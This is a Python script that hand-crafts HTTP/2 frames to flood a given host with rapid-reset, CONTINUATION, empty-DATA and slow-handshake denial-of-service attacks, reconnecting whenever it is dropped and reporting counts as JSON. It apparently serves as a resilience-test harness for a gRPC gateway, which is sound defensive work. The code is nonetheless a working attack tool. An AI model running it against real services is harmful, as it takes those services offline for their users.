"""A client that means harm: HTTP/2 frames by hand, in a process of its own.

    attacker.py rapid-reset|continuation|empty-data|slow-handshake HOST:PORT SECONDS

Begins anew whenever it is thrown out, and at the end prints as JSON what it sent and what
it was told.
"""

import collections
import json
import select
import socket
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, GOAWAY, CONTINUATION = 0, 1, 3, 4, 7, 9
END_STREAM, END_HEADERS = 1, 4
CONNECTIONS = {"rapid-reset": 4, "continuation": 4, "empty-data": 4, "slow-handshake": 400}


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def literal(name: str, value: str) -> bytes:
    """A header field, in clear and not remembered."""
    return b"\0" + b"".join(bytes([len(part)]) + part.encode() for part in (name, value))


def request(method: str) -> bytes:
    fields = ((":method", "POST"), (":scheme", "http"), (":path", f"/surgeline.v1.{method}"),
              (":authority", "router"), ("content-type", "application/grpc"), ("te", "trailers"))
    return b"".join(literal(*field) for field in fields)


class Attacker:
    def __init__(self, kind: str, address: str, seconds: float):
        host, port = address.rsplit(":", 1)
        self.kind, self.address, self.until = kind, (host, int(port)), time.monotonic() + seconds
        self.told: collections.Counter = collections.Counter()
        self.lock = threading.Lock()

    def count(self, what: str, more: int = 1) -> None:
        with self.lock:
            self.told[what] += more

    def run(self) -> None:
        threads = [threading.Thread(target=self.one_after_another) for _ in range(CONNECTIONS[self.kind])]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
        print(json.dumps(self.told))

    def one_after_another(self) -> None:
        while time.monotonic() < self.until:
            try:
                with socket.create_connection(self.address, timeout=2) as line:
                    self.count("connections")
                    self.attack(line)
            except TimeoutError:
                self.count("not read any more")
            except OSError:
                self.count("thrown out")
                # As fast as one is thrown out one may come again; not as fast as a loop can.
                time.sleep(0.02)

    def attack(self, line: socket.socket) -> None:
        if self.kind == "slow-handshake":
            return self.dawdle(line)
        line.sendall(PREFACE + frame(SETTINGS, 0, 0) + frame(SETTINGS, 1, 0))
        stream = 1
        first = request("GatewayService/Connect" if self.kind == "empty-data" else "SupervisorService/ListQueues")
        if self.kind == "continuation":
            line.sendall(frame(HEADERS, END_STREAM, stream, first))
        elif self.kind == "empty-data":
            line.sendall(frame(HEADERS, END_HEADERS, stream, first))
        while time.monotonic() < self.until:
            if self.kind == "rapid-reset":
                sent = b"".join(
                    frame(HEADERS, END_HEADERS, s, first) + frame(RST_STREAM, 0, s, struct.pack(">I", 8))
                    for s in range(stream, stream + 100, 2))
                stream += 100
            elif self.kind == "continuation":
                sent = frame(CONTINUATION, 0, stream, literal("x", "y" * 100) * 50) * 10
            else:
                sent = frame(DATA, 0, stream) * 200
            line.sendall(sent)
            self.count("bytes", len(sent))
            if not self.listen(line):
                return

    def listen(self, line: socket.socket) -> bool:
        """Reads what is there; whether the line is still of use."""
        while select.select([line], [], [], 0)[0]:
            data = line.recv(65_536)
            if not data:
                self.count("thrown out")
                return False
            # Enough for counting: a GOAWAY's header, wherever it is.
            at = data.find(b"\x00\x00" + bytes([8]) + bytes([GOAWAY]))
            if at >= 0 or bytes([GOAWAY, 0, 0, 0, 0, 0]) in data:
                self.count("goaway")
        return True

    def dawdle(self, line: socket.socket) -> None:
        """A byte of the preface every second, and then none at all."""
        for byte in PREFACE[:5]:
            line.sendall(bytes([byte]))
            if select.select([line], [], [], min(1, max(0, self.until - time.monotonic())))[0]:
                if not line.recv(100):
                    self.count("thrown out")
                    return
        line.settimeout(max(0.01, self.until - time.monotonic()))
        try:
            if not line.recv(100):
                self.count("thrown out")
        except TimeoutError:
            self.count("held to the end")


Attacker(sys.argv[1], sys.argv[2], float(sys.argv[3])).run()
